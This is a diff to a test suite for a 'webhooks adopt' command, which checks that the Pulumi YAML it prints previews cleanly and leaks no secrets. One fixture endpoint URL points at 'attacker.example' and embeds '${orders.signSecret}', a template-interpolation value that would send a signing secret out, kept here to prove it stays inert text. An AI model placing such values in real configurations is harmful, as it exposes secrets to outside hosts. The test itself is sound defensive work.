@@ -1,4 +1,4 @@
-// The YAML `webhooks adopt` prints, proven by its real consumer (issue 20, deliverable 2): pasted
+// The YAML `webhooks adopt` prints, proven by its real consumer (docs/adopt-output.md): pasted
 // into a Pulumi YAML program and previewed by the engine (the YAML language host and the native
 // plugin `pulumi-resource-webhooks` from the packed package), each endpoint's inputs as the engine
 // sees them are exactly the service's name and URL, and its import finds no difference. The
@@ -28,7 +28,7 @@ const BATCH = 40;
 const CLEAN_PROGRAMS = 3;
 const WEBHOOKS_BIN = join(BASE_DIR, "node_modules", ".bin", "webhooks");
 
-/** The finding as reported: a program with a resource `orders`, and another team's endpoint whose URL names its secret. */
+/** A program with a resource `orders`, and another team's endpoints whose name or URL holds `${...}`, one naming its secret. */
 const FINDING = [
   { name: "orders", url: "https://example.com/hooks/orders" },
   { name: "hook", url: "https://attacker.example/hook?k=${orders.signSecret}" },
@@ -148,7 +148,7 @@ describe("adopt's YAML, pasted into a program and previewed by the engine", () =
     expect(leaks([TOKEN], [all.output])).toEqual([]);
   });
 
-  it("the finding's program: the import sees no difference, the URL holds ${orders.signSecret} as text, no secret is printed", async () => {
+  it("a URL holding ${orders.signSecret} beside a resource `orders`: the import sees no difference, the URL holds it as text, no secret is printed", async () => {
     const printed = await adoptYaml([1, 2, 3]);
     const result = await preview(printed.stdout);
     expect(result.code, result.output).toBe(0);
